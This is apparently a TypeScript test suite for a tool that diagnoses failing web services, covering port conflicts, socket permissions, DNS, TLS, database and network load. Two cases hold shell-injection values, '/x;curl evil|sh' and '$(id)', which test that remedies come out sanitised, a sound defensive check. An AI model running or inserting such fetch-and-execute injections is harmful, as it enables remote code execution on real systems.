/** Ports, names, modes, certificates, connections: what the evidence of the way to a service, and to what it needs, is taken for. */
import t from 'tap';
import type { CauseName, Confidence } from '../../src/core/diagnosis.ts';
import * as registered from '../../src/healer/causes/registry.ts';
import { diagnose } from '../../src/healer/diagnose.ts';
import { caseFile, evidence, serviceConfig, serviceTarget, type Scene } from '../fixtures/healer/case-file.ts';

const causes = Object.values(registered);
const at = '127.0.0.1:9000';
const sock = 'unix:/run/php/php8.1-fpm.sock';
const onSocket = serviceTarget({ upstreams: [sock] });
const named = serviceTarget({ upstreams: ['backend.lan:9000'] });
const database = serviceTarget({ name: 'mariadb', protocol: undefined, upstreams: ['127.0.0.1:3306'], config: serviceConfig({ type: 'systemd', unit: 'mariadb.service' }) });
const byPidfile = serviceTarget({ config: serviceConfig({ type: 'process', start: ['/usr/bin/shop'], pidfile: '/run/shop.pid' }) });

const state = (name: string, more = {}) => evidence('service_state', { state: name, ...more });
const running = state('running');
const listener = (name: string, more = {}) => evidence('listener', { address: at, current: true, state: name, byService: true, queue: 0, ...more });
const stranger = (more = {}) => listener('listening', { byService: false, program: 'nginx', pids: ['77'], unit: 'nginx.service', user: 'root', ...more });
const connect = (result: string, errno = '') => evidence('connect', { address: at, result, errno });
const workers = (busy: number, idle: number) => evidence('workers', { total: busy + idle, busy, idle, stopped: 0 });
const pool = (maxChildren: number) => evidence('fpm_pool', { pool: 'www', file: '/etc/php/8.2/fpm/pool.d/www.conf', line: 12, maxChildren });
const log = (signature: string, text: string, more = {}) => evidence('log', { signature, count: 1, ...more }, text);
const blocked = (result: string, more = {}) => evidence('blocked_connect', { address: at, result, listening: 'yes', neighbour: 'unseen', rulesRead: true, selinux: false, semanage: false, ...more });
const rule = (more = {}) =>
  evidence('firewall_rule', {
    address: at,
    tool: 'ufw',
    place: 'filter ufw-user-input',
    rule: '-p tcp --dport 9000 -j DROP',
    verdict: 'drop',
    exact: true,
    moved: true,
    narrowed: false,
    look: 'ufw status numbered',
    allow: 'ufw insert 1 allow in on lo to any port 9000 proto tcp',
    ...more,
  });
const denied = (more = {}) =>
  evidence('socket_access', { path: sock.slice(5), at: sock.slice(5), isSocket: true, program: 'nginx', user: 'nginx', primaryGroup: 'web', owner: 'root', group: 'root', mode: '0600', ...more });
const refused = { seenBy: 'nginx_log', kind: 'proxy_configuration_error', errno: 'EACCES', text: 'nginx was refused the socket 3 times.' } as const;
const name = (result: string, more = {}) => evidence('name', { name: 'backend.lan', result, addresses: [], ms: 12, slow: false, ...more });
const server = (answers: boolean, exists: string, ms = 9) => evidence('name_server', { server: '10.0.0.2', name: 'backend.lan', answers, exists, ms, code: '' });
const certificate = (result: string, more = {}) =>
  evidence('certificate', { address: at, result, name: 'shop.lan', verified: true, detail: 'handshake failure', ...more }, `The certificate is ${result}.`);
const word = (meaning: string, more = {}) => evidence('dependency_word', { name: 'mariadb', kind: 'database', meaning, speaks: 'mysql', ...more }, `mariadb says ${meaning}.`);
const ownWord = (meaning: string) => evidence('own_word', { name: 'mariadb', kind: 'own', meaning, speaks: 'mysql' });
const ports = (used: number) => evidence('local_ports', { address: at, used, range: 28_232 });
const conntrack = (count: number) => evidence('conntrack', { count, max: 1000 });
const lineFull = evidence('line_full', { address: at, device: 'eth1', droppedShare: 0.874, droppedPerS: 1700 });
const errors = { kind: 'status_5xx', text: '18 of 20 answers were errors.' } as const;
const late = { kind: 'connection_timeout', text: '3 connects got no answer.' } as const;

interface Row {
  readonly scene: string;
  readonly file: Scene;
  readonly best: readonly [CauseName, Confidence];
  readonly says?: RegExp;
  /** Not even suspected; with a confidence: not so sure. */
  readonly never?: readonly (CauseName | `${CauseName} ${Confidence}`)[];
}

const rows: readonly Row[] = [
  {
    scene: 'a rule for the port counted our connect',
    file: { evidence: [running, blocked('timeout'), rule()] },
    best: ['net.port_blocked', 'certain'],
    says: /A rule of ufw drops .*ufw status numbered; let the port through: ufw insert 1 allow in on lo to any port 9000 proto tcp/,
  },
  { scene: 'a rule for the port does not count', file: { evidence: [running, blocked('timeout'), rule({ moved: false })] }, best: ['net.port_blocked', 'likely'] },
  {
    scene: 'a rule for the port asks for more and does not count',
    file: { evidence: [running, blocked('timeout', { listening: 'no' }), rule({ moved: false, narrowed: true })] },
    best: ['unknown', 'possible'],
  },
  {
    scene: 'a rule for the port that asks for more counted something: it may have been a scanner',
    file: { evidence: [running, blocked('timeout'), rule({ narrowed: true })] },
    best: ['net.port_blocked', 'likely'],
  },
  {
    scene: 'a general rule counted something, and the listener is on another host',
    file: { evidence: [running, blocked('timeout', { listening: 'unseen' }), rule({ exact: false })] },
    best: ['unknown', 'possible'],
    never: ['net.port_blocked'],
  },
  { scene: 'no rule is seen, but a listener without a queue does not get the connect', file: { evidence: [running, blocked('timeout')] }, best: ['net.port_blocked', 'possible'] },
  {
    scene: 'another host rejects, and its address is known',
    file: { evidence: [running, blocked('EHOSTUNREACH', { listening: 'unseen', neighbour: 'known' })] },
    best: ['net.port_blocked', 'possible'],
  },
  { scene: 'no host has this address', file: { evidence: [running, blocked('EHOSTUNREACH', { listening: 'unseen', neighbour: 'gone' })] }, best: ['unknown', 'possible'], never: ['net.port_blocked'] },
  { scene: 'no route leads there', file: { evidence: [running, blocked('ENETUNREACH', { listening: 'unseen' })] }, best: ['net.port_blocked', 'likely'], says: /there is no route to it/ },
  {
    scene: 'it is down, whatever the packet filter does',
    file: { evidence: [state('failed'), listener('nobody'), blocked('timeout'), rule()] },
    best: ['service.crashed', 'certain'],
    never: ['net.port_blocked'],
  },
  {
    scene: 'a connect over TCP is forbidden, and SELinux enforces',
    file: { evidence: [running, blocked('EACCES', { listening: 'yes', selinux: true, semanage: true })] },
    best: ['config.permission', 'possible'],
    says: /semanage port -a -t http_port_t -p tcp 9000/,
  },

  {
    scene: 'down, and nginx has its port',
    file: { evidence: [state('failed'), stranger()] },
    best: ['net.port_taken', 'certain'],
    says: /nginx \(pid 77, nginx\.service\) listens on 127\.0\.0\.1:9000, so that shop cannot\..*systemctl status nginx\.service.*systemctl start php8\.2-fpm\.service/,
  },
  { scene: 'down, known by a pidfile only, and somebody has its port', file: { target: byPidfile, evidence: [state('failed'), stranger()] }, best: ['net.port_taken', 'likely'] },
  {
    scene: 'down, known by a pidfile only, and its log says that the port is taken',
    file: { target: byPidfile, evidence: [state('failed'), stranger(), log('bind_failed', 'bind: Address already in use (98)')] },
    best: ['net.port_taken', 'certain'],
  },
  {
    scene: 'down, and systemd holds its port for it',
    file: { evidence: [state('failed'), stranger({ program: 'systemd', unit: 'init.scope' })] },
    best: ['service.crashed', 'likely'],
    never: ['net.port_taken'],
  },
  {
    scene: 'down, and its own workers hold the port',
    file: { evidence: [state('failed'), stranger(), evidence('orphans', { pids: ['11'], address: at, program: 'php-fpm8.2' })] },
    best: ['service.orphaned_workers', 'certain'],
    never: ['net.port_taken'],
  },
  {
    scene: 'runs beside another that answers with junk there, which no restart changes',
    file: {
      target: serviceTarget({ protocol: 'http' }),
      symptom: { kind: 'http_protocol_error', text: 'junk' },
      evidence: [running, evidence('processes', { total: 2 }), stranger({ program: 'memcached' }), evidence('http_answer', { result: 'junk', failure: 'http_protocol_error' })],
    },
    best: ['net.port_taken', 'likely'],
    never: ['app.bad_response likely'],
  },
  {
    scene: 'who answers with junk there may be the service itself: nobody knows its processes',
    file: {
      target: serviceTarget({ protocol: 'http' }),
      symptom: { kind: 'http_protocol_error', text: 'junk' },
      evidence: [running, stranger({ program: 'shop' }), evidence('http_answer', { result: 'junk' })],
    },
    best: ['app.bad_response', 'certain'],
    never: ['net.port_taken'],
  },
  {
    scene: 'another that listens there is the one that brings it into a container',
    file: {
      symptom: { kind: 'http_protocol_error', text: 'junk' },
      evidence: [running, evidence('processes', { total: 2 }), stranger({ program: 'docker-proxy' }), evidence('http_answer', { result: 'junk' })],
    },
    best: ['app.bad_response', 'certain'],
    never: ['net.port_taken'],
  },
  { scene: 'runs beside another that listens there', file: { evidence: [running, stranger(), connect('connected')] }, best: ['unknown', 'possible'], never: ['net.port_taken'] },
  { scene: 'stopped on purpose, and another has the port', file: { evidence: [state('stopped'), stranger()] }, best: ['service.stopped_by_operator', 'certain'], never: ['net.port_taken'] },
  {
    scene: 'its log says that the port was taken, and it is free',
    file: { evidence: [state('failed'), listener('nobody'), log('already_listening', 'Another FPM instance seems to already listen on /x')] },
    best: ['service.crashed', 'certain'],
    never: ['net.port_taken'],
  },

  {
    scene: 'nginx is refused the socket, and the mode forbids it',
    file: { target: onSocket, symptom: refused, evidence: [running, denied()] },
    best: ['config.permission', 'certain'],
    says: /nginx runs as nginx and may not use \/run\/php\/php8\.1-fpm\.sock \(root:root, mode 0600\).*setfacl -m u:nginx:rw \/run\/php\/php8\.1-fpm\.sock; to last: listen\.owner = nginx, listen\.group = web,/,
  },
  {
    scene: 'nginx is refused the socket, which a group that it is not in may write to',
    file: { target: onSocket, symptom: refused, evidence: [running, denied({ owner: 'www-data', group: 'www-data', mode: '0660' })] },
    best: ['config.permission', 'certain'],
    says: /to last: usermod -aG www-data nginx, then restart nginx/,
  },
  {
    scene: "goodgateway is refused nginx's socket",
    file: {
      target: onSocket,
      symptom: { ...refused, seenBy: 'traffic' },
      evidence: [running, denied({ program: 'goodgateway', user: 'goodgateway', primaryGroup: 'goodgateway', owner: 'www-data', mode: '0600' })],
    },
    best: ['config.permission', 'certain'],
    says: /setfacl -m u:goodgateway:rw .*listen\.mode = 0660 in [^;]* with a listen\.group that goodgateway and all others/,
  },
  {
    scene: 'nginx is refused the socket, and the mode forbids it to another',
    file: { target: onSocket, symptom: refused, evidence: [running, denied({ program: 'caddy' })] },
    best: ['config.permission', 'likely'],
  },
  {
    scene: 'nginx may not pass the folder',
    file: { target: onSocket, symptom: refused, evidence: [running, denied({ at: '/run/php', isSocket: false, mode: '0700' })] },
    best: ['config.permission', 'certain'],
    says: /setfacl -m u:nginx:x \/run\/php/,
  },
  { scene: 'the mode forbids it to nginx, and nobody was refused', file: { target: onSocket, evidence: [running, denied()] }, best: ['unknown', 'possible'], never: ['config.permission'] },
  { scene: 'nginx was refused, and the modes are well now', file: { target: onSocket, symptom: refused, evidence: [running] }, best: ['unknown', 'possible'], never: ['config.permission'] },
  {
    scene: 'it ended because it may not listen there',
    file: { evidence: [state('failed'), listener('nobody'), log('bind_failed', "unable to bind listening socket for address '/run/x.sock': Permission denied (13)", { address: '/run/x.sock' })] },
    best: ['config.permission', 'certain'],
    says: /shop may not listen on \/run\/x\.sock.*namei -l \/run\/x\.sock/,
  },
  {
    scene: 'the address of that line is a command',
    file: { evidence: [state('failed'), listener('nobody'), log('bind_failed', 'bind: Permission denied (13)', { address: '/x;curl evil|sh' })] },
    best: ['config.permission', 'certain'],
    says: /namei -l PATH;/,
  },
  {
    scene: 'the name of a line is a command',
    file: { evidence: [running, log('dns_failed', 'getaddrinfo failed', { name: '$(id)' })] },
    best: ['config.dns', 'possible'],
    says: /getent ahosts NAME$/,
  },

  {
    scene: 'the gateway looks for the socket of another version',
    file: {
      target: onSocket,
      evidence: [running, listener('path_missing', { address: sock }), connect('destination_unavailable', 'ENOENT'), evidence('listen_elsewhere', { addresses: ['unix:/run/php/php8.2-fpm.sock'] })],
    },
    best: ['config.socket_mismatch', 'likely'],
    says: /looks for shop at unix:\/run\/php\/php8\.1-fpm\.sock, which does not exist; it listens on unix:\/run\/php\/php8\.2-fpm\.sock\./,
    never: ['net.port_moved'],
  },
  {
    scene: 'an external service, and one other socket beside',
    file: {
      target: serviceTarget({ upstreams: [sock], config: serviceConfig({ type: 'external' }) }),
      evidence: [
        state('unknown'),
        listener('path_missing', { address: sock, byService: false }),
        connect('connected'),
        evidence('socket_beside', { path: sock.slice(5), sockets: ['/run/php/php8.2-fpm.sock'] }),
      ],
    },
    best: ['config.socket_mismatch', 'possible'],
  },
  {
    scene: 'its socket is in a /tmp of its own',
    file: { target: onSocket, evidence: [running, listener('listening', { address: sock }), connect('destination_unavailable', 'ENOENT')] },
    best: ['config.socket_mismatch', 'likely'],
    says: /PrivateTmp/,
  },

  {
    scene: 'the name of the upstream does not exist',
    file: { target: named, evidence: [running, name('not_found'), server(true, 'no')] },
    best: ['config.dns', 'certain'],
    says: /The name backend\.lan does not exist\..*getent ahosts backend\.lan/,
  },
  {
    scene: 'no name server answers',
    file: { target: named, evidence: [running, name('no_server'), server(false, 'unknown')] },
    best: ['config.dns', 'certain'],
    says: /No name server of this host answers/,
  },
  { scene: 'a name that it needs does not resolve', file: { evidence: [running, name('not_found'), server(true, 'no')] }, best: ['config.dns', 'likely'] },
  { scene: 'the name does not resolve, but its server knows it', file: { target: named, evidence: [running, name('not_found'), server(true, 'yes')] }, best: ['config.dns', 'possible'] },
  { scene: 'a look-up was late on a busy host', file: { target: named, evidence: [running, name('late', { slow: true, ms: 2500 }), server(true, 'yes')] }, best: ['config.dns', 'possible'] },
  {
    scene: 'names resolve, slowly, by a server that answers',
    file: { target: named, evidence: [running, name('resolved', { slow: true }), server(true, 'yes')] },
    best: ['unknown', 'possible'],
    never: ['config.dns'],
  },
  {
    scene: 'names resolve, slowly, because the first server is silent',
    file: { target: named, evidence: [running, name('resolved', { slow: true }), server(false, 'unknown'), server(true, 'yes')] },
    best: ['config.dns', 'possible'],
    says: /10\.0\.0\.2 is silent/,
  },

  {
    scene: 'the name server answers, but only after seconds, and connects fail for it',
    file: { target: named, symptom: { kind: 'dns_timeout' }, evidence: [running, name('late', { slow: true, ms: 4200 }), server(true, 'yes', 3004)] },
    best: ['config.dns', 'likely'],
    says: /10\.0\.0\.2 answers only after 3 s\..*time getent ahosts backend\.lan/,
  },
  {
    scene: 'the name server answers only after seconds, and nobody met that',
    file: { target: named, evidence: [running, name('resolved', { slow: true, ms: 3010 }), server(true, 'yes', 3004)] },
    best: ['config.dns', 'possible'],
  },
  {
    scene: 'the name leads past the service',
    file: { target: named, evidence: [running, name('resolved', { addresses: ['10.1.1.9'], listeners: ['10.1.1.8'] }), connect('connection_timeout')] },
    best: ['config.dns', 'likely'],
    says: /leads to 10\.1\.1\.9, where no connection is taken; shop listens on 10\.1\.1\.8\./,
  },
  {
    scene: 'the name leads to the service, which takes no connection',
    file: { target: named, evidence: [running, name('resolved', { addresses: ['10.1.1.8'], listeners: ['0.0.0.0'] }), connect('connection_timeout')] },
    best: ['unknown', 'possible'],
    never: ['config.dns'],
  },
  {
    scene: 'look-ups take seconds, and requests fail for it',
    file: { target: named, symptom: { kind: 'dns_timeout' }, evidence: [running, name('resolved', { slow: true }), server(false, 'unknown')] },
    best: ['config.dns', 'likely'],
  },
  {
    scene: 'the port speaks TLS, the gateway does not',
    file: { evidence: [running, evidence('speaks_tls', { address: at })] },
    best: ['config.tls', 'certain'],
    says: /speaks TLS, but its gateway speaks plain HTTP.*https:\/\/127\.0\.0\.1:9000/,
  },
  { scene: 'the gateway speaks TLS, the port does not', file: { evidence: [running, certificate('plain')] }, best: ['config.tls', 'certain'], says: /speaks no TLS/ },
  { scene: 'the certificate has expired', file: { evidence: [running, certificate('expired')] }, best: ['config.tls', 'certain'], says: /Renew the certificate/ },
  { scene: 'the certificate has expired, and nobody checks it', file: { evidence: [running, certificate('expired', { verified: false })] }, best: ['unknown', 'possible'], never: ['config.tls'] },
  { scene: 'the handshake is refused with an alert', file: { evidence: [running, certificate('refused')] }, best: ['config.tls', 'likely'] },
  { scene: 'the handshake is cut or late, as of a busy server', file: { evidence: [running, certificate('cut')] }, best: ['unknown', 'possible'], never: ['config.tls'] },

  {
    scene: 'its database has no connection left, and every worker waits',
    file: { evidence: [running, workers(5, 0), pool(5), word('full')] },
    best: ['capacity.connections_exhausted', 'certain'],
    says: /mariadb has no connection left .*SHOW FULL PROCESSLIST/,
  },
  {
    scene: 'its database is starting',
    file: { evidence: [running, connect('connected'), word('starting')] },
    best: ['service.starting', 'certain'],
    says: /mariadb, which shop needs, is still starting\. Wait/,
  },
  {
    scene: 'it is down itself while its database starts',
    file: { evidence: [state('failed'), listener('nobody'), word('starting')] },
    best: ['service.crashed', 'certain'],
    never: ['service.starting', 'dependency.database'],
  },
  { scene: 'its database shut this host out', file: { evidence: [running, word('host_blocked')] }, best: ['dependency.database', 'certain'], says: /shut this host out.*flush-hosts/ },
  {
    scene: 'its cache cannot save',
    file: { evidence: [running, word('cannot_save', { name: 'redis', kind: 'cache', speaks: 'redis' })] },
    best: ['dependency.cache', 'certain'],
    says: /redis, which it needs, is in trouble: it takes no writes/,
  },
  {
    scene: 'its database refuses connections',
    file: { evidence: [running, evidence('dependency', { name: 'mariadb', kind: 'database', incident: false }), word('unreachable')] },
    best: ['dependency.database', 'likely'],
  },
  { scene: 'its database took a connection and said nothing for a while', file: { evidence: [running, word('silent')] }, best: ['dependency.database', 'possible'] },
  { scene: 'a database is full itself', file: { target: database, evidence: [running, ownWord('full')] }, best: ['capacity.connections_exhausted', 'certain'], says: /Sleeping ones/ },
  { scene: 'a database is still loading itself', file: { target: database, evidence: [running, ownWord('starting')] }, best: ['service.starting', 'certain'] },
  {
    scene: 'only the log speaks of too many connections',
    file: { evidence: [running, log('too_many_connections', 'SQLSTATE[HY000] [1040] Too many connections')] },
    best: ['capacity.connections_exhausted', 'possible'],
  },
  {
    scene: 'the log has the refused account again and again, and answers are errors',
    file: {
      symptom: errors,
      evidence: [running, log('mysql_access_denied', "PHP Fatal error: Uncaught PDOException: SQLSTATE[HY000] [1045] Access denied for user 'shop'@'localhost'", { user: 'shop', count: 40 })],
    },
    best: ['config.credentials', 'likely'],
    says: /refuses its account shop/,
    never: ['app.error likely'],
  },
  {
    scene: 'the log has refused accounts again and again, and nobody was answered with an error',
    file: { evidence: [running, log('mysql_access_denied', "Access denied for user 'root'@'localhost'", { user: 'root', count: 40 })] },
    best: ['config.credentials', 'possible'],
  },
  {
    scene: 'the log of a database has refused accounts',
    file: { target: database, evidence: [running, log('mysql_access_denied', "Access denied for user 'root'@'203.0.113.9'", { user: 'root', count: 40 })] },
    best: ['unknown', 'possible'],
    never: ['config.credentials'],
  },
  {
    scene: 'a fatal error quotes the refused account, and our own question is answered with an error, too',
    file: {
      symptom: errors,
      evidence: [
        running,
        evidence('http_answer', { result: 'status', status: 500 }),
        log('mysql_access_denied', "Access denied for user 'shop'@'localhost'", { user: 'shop', count: 9 }),
        log('php_fatal', 'PHP Fatal error:  Uncaught Error: x in /srv/x.php:3', { message: 'x', file: '/srv/x.php', line: 3, count: 2 }),
      ],
    },
    best: ['config.credentials', 'likely'],
    never: ['app.error likely'],
  },
  {
    scene: 'one refused account beside many fatal errors of the program',
    file: {
      symptom: errors,
      evidence: [
        running,
        log('mysql_access_denied', "Access denied for user 'shop'@'localhost'"),
        log('php_fatal', 'PHP Fatal error: x in /srv/x.php:3', { message: 'x', file: '/srv/x.php', line: 3, count: 9 }),
      ],
    },
    best: ['app.error', 'likely'],
  },
  {
    scene: 'answers are errors, and the log says that a database had no connection left',
    file: { symptom: errors, evidence: [running, evidence('http_answer', { result: 'status', status: 500 }), log('mysql_too_many_connections', 'Too many connections', { count: 9 })] },
    best: ['capacity.connections_exhausted', 'possible'],
    never: ['app.error likely'],
  },
  {
    scene: 'answers are errors, and the log says that the name of the database does not resolve',
    file: { symptom: errors, evidence: [running, evidence('http_answer', { result: 'status', status: 500 }), log('dns_failed', 'getaddrinfo for db failed', { name: 'db', count: 9 })] },
    best: ['config.dns', 'possible'],
    never: ['app.error likely'],
  },
  {
    scene: 'answers are errors, and the log says that no database took the connection',
    file: { symptom: errors, evidence: [running, evidence('http_answer', { result: 'status', status: 500 }), log('mysql_unreachable', 'SQLSTATE[HY000] [2002] Connection refused', { count: 9 })] },
    best: ['dependency.database', 'possible'],
    never: ['app.error likely'],
  },
  {
    scene: 'answers are errors, and the log was not read in time',
    file: {
      symptom: errors,
      evidence: [running, evidence('http_answer', { result: 'status', status: 500 }), { ...evidence('probe', { probe: 'log-tail' }), missing: 'log-tail: not finished after 2000 ms' }],
    },
    best: ['app.error', 'possible'],
  },
  { scene: 'the log has one refused account', file: { evidence: [running, log('redis_login', 'WRONGPASS invalid username-password pair')] }, best: ['config.credentials', 'possible'] },

  {
    scene: 'no local port is left, and a connect was refused for it',
    file: { evidence: [running, ports(28_000), connect('proxy_internal_error', 'EADDRNOTAVAIL')] },
    best: ['capacity.ports_exhausted', 'certain'],
  },
  { scene: 'most local ports are used, and connects work', file: { evidence: [running, ports(24_000), connect('connected')] }, best: ['unknown', 'possible'], never: ['capacity.ports_exhausted'] },
  {
    scene: 'a request found no local port, and there are some again',
    file: { symptom: { errno: 'EADDRNOTAVAIL' }, evidence: [running, connect('connected')] },
    best: ['capacity.ports_exhausted', 'possible'],
  },
  {
    scene: 'the table of connections is full, and the kernel says that it drops',
    file: { symptom: late, evidence: [running, conntrack(1000), log('conntrack_full', 'nf_conntrack: table full, dropping packet')] },
    best: ['load.network', 'certain'],
    says: /sysctl -w net\.netfilter\.nf_conntrack_max=2000/,
  },
  {
    scene: 'the line throws packets away, and connects get no answer',
    file: { symptom: late, evidence: [running, lineFull] },
    best: ['load.network', 'likely'],
    says: /^The line to shop is full: eth1 throws away 87 % .*tc -s qdisc show dev eth1/,
  },
  {
    scene: 'the line throws packets away, and connections come about',
    file: { evidence: [running, lineFull, evidence('connect', { address: at, result: 'connected' })] },
    best: ['unknown', 'possible'],
    never: ['load.network'],
  },
  { scene: 'the table of connections is full, and connects get no answer', file: { symptom: late, evidence: [running, conntrack(995)] }, best: ['load.network', 'likely'] },
  {
    scene: 'the table of connections is nearly full, and nothing is lost',
    file: { evidence: [running, conntrack(995), connect('connected')] },
    best: ['unknown', 'possible'],
    never: ['load.network'],
  },
  {
    scene: 'a limit for each address holds back our own',
    file: { evidence: [running, log('nginx_limiting', 'limiting requests, excess: 5.0 by zone "one", client: 127.0.0.1,', { client: '127.0.0.1' })] },
    best: ['config.per_ip_limit', 'likely'],
    says: /set_real_ip_from 127\.0\.0\.1/,
  },
  {
    scene: "a limit for each address holds back a visitor's",
    file: { evidence: [running, log('nginx_limiting', 'limiting requests', { client: '203.0.113.9' })] },
    best: ['unknown', 'possible'],
    never: ['config.per_ip_limit'],
  },
  { scene: 'healthy and busy', file: { evidence: [running, listener('listening', { queue: 3 }), workers(5, 0), pool(5)] }, best: ['capacity.workers_exhausted', 'certain'] },
];

for (const { scene, file, best, says, never } of rows) {
  t.test(scene, (t) => {
    const diagnosis = diagnose(caseFile(file), causes);
    t.same([diagnosis.best.cause, diagnosis.best.confidence], best, diagnosis.best.sentence);
    if (says) t.match(`${diagnosis.best.sentence} ${diagnosis.best.remedy}`, says);
    const suspected = [diagnosis.best, ...diagnosis.others].flatMap(({ cause, confidence }) => [cause, `${cause} ${confidence}` as const]);
    t.same(
      suspected.filter((each) => never?.includes(each)),
      [],
    );
    t.match(diagnosis.best.sentence, /[.!?]$/, 'a whole sentence');
    t.ok(diagnosis.best.because.length > 0, 'says why');
    t.notMatch(JSON.stringify(diagnosis), /undefined|NaN/);
    t.end();
  });
}
